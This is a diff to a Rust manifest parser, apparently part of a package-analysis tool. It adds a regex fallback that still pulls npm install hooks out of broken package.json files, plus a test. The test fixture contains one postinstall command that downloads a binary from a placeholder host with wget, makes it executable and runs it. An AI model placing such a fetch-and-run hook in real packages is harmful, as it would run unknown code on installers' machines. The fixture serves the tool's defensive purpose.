@@ -2,6 +2,8 @@
 //! pyproject.toml, requirements*.txt, package.json.
 
 use crate::model::Sink;
+use regex::Regex;
+use std::sync::LazyLock;
 
 /// Add a dependency name (requirement specifiers, extras and markers stripped).
 pub(crate) fn push_dep(deps: &mut Vec<String>, spec: &str) {
@@ -160,7 +162,7 @@ pub(crate) fn requirements(text: &str, sink: &mut Sink) {
 /// `package.json`: metadata and dependencies; returns its install scripts.
 pub(crate) fn package_json(text: &str, sink: &mut Sink) -> Vec<(String, String)> {
     let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
-        return Vec::new();
+        return damaged_package_json_hooks(text);
     };
     let s = |k: &str| v.get(k).and_then(|x| x.as_str()).unwrap_or("");
     set(&mut sink.name, s("name"));
@@ -190,19 +192,37 @@ pub(crate) fn package_json(text: &str, sink: &mut Sink) -> Vec<(String, String)>
     }
     let mut scripts = Vec::new();
     if let Some(o) = v.get("scripts").and_then(|x| x.as_object()) {
-        for k in [
-            "preinstall",
-            "install",
-            "postinstall",
-            "preuninstall",
-            "prepare",
-        ] {
+        for &k in INSTALL_HOOKS {
             if let Some(cmd) = o.get(k).and_then(|x| x.as_str()) {
                 scripts.push((k.to_string(), cmd.to_string()));
             }
         }
     }
     scripts
+}
+
+/// The install hooks npm runs, by name.
+const INSTALL_HOOKS: &[&str] = &[
+    "preinstall",
+    "install",
+    "postinstall",
+    "preuninstall",
+    "prepare",
+];
+
+/// `"postinstall": "..."` pairs of a package.json that is not valid JSON (a damaged
+/// sample, an archive cut short): its hooks are still what the author meant to run.
+fn damaged_package_json_hooks(text: &str) -> Vec<(String, String)> {
+    static HOOK: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#""(preinstall|install|postinstall|preuninstall|prepare)"\s*:\s*("(?:[^"\\\n]|\\.)*")"#)
+            .expect("static regex compiles")
+    });
+    HOOK.captures_iter(text)
+        .filter_map(|c| {
+            let cmd = serde_json::from_str::<String>(&c[2]).ok()?;
+            Some((c[1].to_string(), cmd))
+        })
+        .collect()
 }
 
 /// The entry point package.json names (`main`, default `index.js`), without `./`, with
@@ -286,6 +306,16 @@ mod tests {
         );
         assert_eq!(scripts, vec![("postinstall".into(), "node x.js".into())]);
         assert!(s.dependencies.contains(&"a".to_string()));
+        // Not valid JSON: its hooks are still read, escapes decoded; other keys are not.
+        let damaged = r#"{"name": "p", "scripts": "test": "jest",
+    "postinstall": "wget https://x.test/a.elf && chmod +x a.elf && ./a.elf \"q\" &""repository": {"#;
+        assert_eq!(
+            package_json(damaged, &mut Sink::default()),
+            vec![(
+                "postinstall".into(),
+                r#"wget https://x.test/a.elf && chmod +x a.elf && ./a.elf "q" &"#.into()
+            )]
+        );
     }
 
     #[test]
